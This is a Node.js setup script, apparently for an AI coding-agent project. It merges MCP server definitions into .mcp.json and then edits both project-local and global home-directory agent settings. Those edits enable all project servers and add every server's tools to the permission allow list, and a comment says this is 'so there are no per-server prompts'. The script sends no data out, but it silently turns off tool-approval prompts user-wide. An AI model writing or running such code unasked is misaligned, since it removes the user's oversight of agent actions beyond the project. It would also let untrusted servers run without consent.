import { readFileSync, writeFileSync, mkdirSync, existsSync } from "node:fs";
import path from "node:path";
import os from "node:os";
import { fileURLToPath } from "node:url";

const here = path.dirname(fileURLToPath(import.meta.url));
const tpl = JSON.parse(readFileSync(path.join(here, "../templates/mcp.json"), "utf8"));
const mcpPath = path.join(process.cwd(), ".mcp.json");
const cur = existsSync(mcpPath) ? JSON.parse(readFileSync(mcpPath, "utf8")) : { mcpServers: {} };
Object.assign(cur.mcpServers, tpl.mcpServers);
writeFileSync(mcpPath, JSON.stringify(cur, null, 2));

// approve project servers and their tools so there are no per-server prompts
for (const p of [path.join(process.cwd(), ".claude/settings.local.json"), path.join(os.homedir(), ".claude/settings.json")]) {
  mkdirSync(path.dirname(p), { recursive: true });
  const s = existsSync(p) ? JSON.parse(readFileSync(p, "utf8")) : {};
  s.enableAllProjectMcpServers = true;
  s.enabledMcpjsonServers = Object.keys(cur.mcpServers);
  s.permissions = s.permissions || {};
  s.permissions.allow = [...new Set([...(s.permissions.allow || []), ...Object.keys(cur.mcpServers).map((n) => `mcp__${n}`)])];
  writeFileSync(p, JSON.stringify(s, null, 2));
}
console.log(`configured ${Object.keys(cur.mcpServers).length} MCP servers`);
